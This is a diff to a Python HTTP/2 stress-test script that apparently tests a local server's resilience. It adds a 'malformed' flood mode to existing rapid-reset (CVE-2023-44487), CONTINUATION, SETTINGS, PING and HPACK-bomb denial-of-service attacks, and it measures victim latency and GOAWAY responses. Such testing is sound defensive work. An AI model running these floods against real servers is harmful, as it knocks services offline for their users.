@@ -5,7 +5,8 @@
 
 ATTACK is one of rapid-reset (CVE-2023-44487: HEADERS then RST_STREAM, as fast as possible), continuation (HEADERS
 without END_HEADERS followed by endless CONTINUATION frames), settings (a SETTINGS flood), ping (a PING flood),
-hpack-bomb (one 4 KiB header put in the dynamic table, then a header block that names it thousands of times).
+hpack-bomb (one 4 KiB header put in the dynamic table, then a header block that names it thousands of times),
+malformed (requests with an upper-case field name, each a stream error, as fast as possible).
 While the attack runs, a second client sends plain HTTP/1.1 requests on its own keep-alive connection and records
 their latency. Prints one JSON line:
   {"attack", "goaway": error code or null, "closed": bool, "sent": frames/streams sent, "reset_streams": n,
@@ -58,9 +59,11 @@ class Victim(threading.Thread):
         return round(xs[min(len(xs) - 1, int(len(xs) * p))], 2) if xs else None
 
 
-def connect(port):
+def connect(port, validate=True):
     s = socket.create_connection(("127.0.0.1", port), timeout=10)
-    c = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
+    c = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8",
+                                                             validate_outbound_headers=validate,
+                                                             normalize_outbound_headers=validate))
     c.initiate_connection()
     s.sendall(c.data_to_send())
     return s, c
@@ -76,8 +79,21 @@ class Reader(threading.Thread):
     def __init__(self, sock, conn):
         super().__init__(daemon=True)
         self.sock, self.conn = sock, conn
-        self.goaway, self.closed, self.resets, self.statuses = None, False, 0, {}
+        self.goaway, self.closed, self.resets, self.statuses, self.error = None, False, 0, {}, None
+        self.raw = b""
         self.lock = threading.Lock()
+
+    def scan(self, data):
+        """Notes a GOAWAY from the raw frames too: `h2` raises on a frame it finds out of place (RST_STREAM after
+        GOAWAY, which RFC 9113 allows for streams the GOAWAY covers) and the events of that read are lost."""
+        self.raw += data
+        while len(self.raw) >= 9:
+            length = int.from_bytes(self.raw[0:3], "big")
+            if len(self.raw) < 9 + length:
+                return
+            if self.raw[3] == 7 and length >= 8 and self.goaway is None:
+                self.goaway = int.from_bytes(self.raw[13:17], "big")
+            self.raw = self.raw[9 + length:]
 
     def run(self):
         try:
@@ -86,10 +102,12 @@ class Reader(threading.Thread):
                 if not data:
                     self.closed = True
                     return
+                self.scan(data)
                 with self.lock:
                     try:
                         events = self.conn.receive_data(data)
-                    except Exception:
+                    except Exception as e:  # noted: the frames after it in this read are lost to the count
+                        self.error = self.error or repr(e)
                         events = []
                     for e in events:
                         if isinstance(e, h2.events.ConnectionTerminated):
@@ -117,7 +135,7 @@ def send_raw(sock, frame_bytes):
 
 
 def attack(port, host, kind, seconds):
-    sock, conn = connect(port)
+    sock, conn = connect(port, validate=kind != "malformed")
     reader = Reader(sock, conn)
     reader.start()
     sent = 0
@@ -133,6 +151,23 @@ def attack(port, host, kind, seconds):
                 except h2.exceptions.ProtocolError:
                     break  # the edge sent GOAWAY
                 out = conn.data_to_send()
+            if not send_raw(sock, out):
+                break
+            sent += 1
+    elif kind == "malformed":
+        while time.monotonic() < deadline and not reader.closed and reader.goaway is None:
+            with reader.lock:
+                try:
+                    sid = conn.get_next_available_stream_id()
+                    conn.send_headers(sid, request_headers(host) + [("X-Upper", "1")], end_stream=True)
+                    out = conn.data_to_send()
+                except h2.exceptions.TooManyStreamsError:
+                    out = None  # the resets have not come back yet
+                except h2.exceptions.ProtocolError:
+                    break  # the edge sent GOAWAY
+            if out is None:
+                time.sleep(0.001)
+                continue
             if not send_raw(sock, out):
                 break
             sent += 1
@@ -180,7 +215,7 @@ def attack(port, host, kind, seconds):
     except OSError:
         pass
     return {"goaway": reader.goaway if reader.goaway is None else int(reader.goaway), "closed": reader.closed, "sent": sent,
-            "reset_streams": reader.resets, "status": reader.statuses.get(bomb_stream) if bomb_stream else None}
+            "reset_streams": reader.resets, "status": reader.statuses.get(bomb_stream) if bomb_stream else None, "client_error": reader.error}
 
 
 def main():
